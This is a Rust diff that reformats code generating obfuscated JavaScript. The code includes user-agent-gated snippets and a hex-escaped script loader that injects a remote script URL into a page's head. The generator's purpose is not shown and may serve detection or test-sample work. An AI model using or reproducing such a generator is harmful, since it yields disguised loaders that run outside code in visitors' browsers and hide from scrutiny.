@@ -83,7 +83,12 @@ fn gate(dice: &mut Dice, real: &str) -> String {
     ]);
     let name = obfuscate::variable(dice);
     let quote = *dice.pick(&['"', '\'']);
-    let set = format!("document.title{}={}{quote}{}{quote}", dice.pick(&["", " "]), dice.pick(&["", " "]), js_string(real));
+    let set = format!(
+        "document.title{}={}{quote}{}{quote}",
+        dice.pick(&["", " "]),
+        dice.pick(&["", " "]),
+        js_string(real)
+    );
     let code = match dice.range(0..=6) {
         0..=1 => format!("if({agent}.indexOf(\"{first}\") == -1){{{set}}}"),
         2 => format!("if(!{agent}.match(/{first}|{second}/i)){{{set};}}"),
@@ -111,7 +116,9 @@ pub(crate) fn remote(dice: &mut Dice, kit: &Kit) -> String {
             let name = obfuscate::variable(dice);
             let words: Vec<String> = ["createElement", "script", "src", &url, "appendChild", "head"]
                 .iter()
-                .map(|word| format!("\"{}\"", word.bytes().map(|b| format!("\\x{b:02x}")).collect::<String>()))
+                .map(|word| {
+                    format!("\"{}\"", word.bytes().map(|b| format!("\\x{b:02x}")).collect::<String>())
+                })
                 .collect();
             format!(
                 "<script>var {name}=[{}];var s=document[{name}[0]]({name}[1]);s[{name}[2]]={name}[3];document[{name}[5]][{name}[4]](s);</script>",
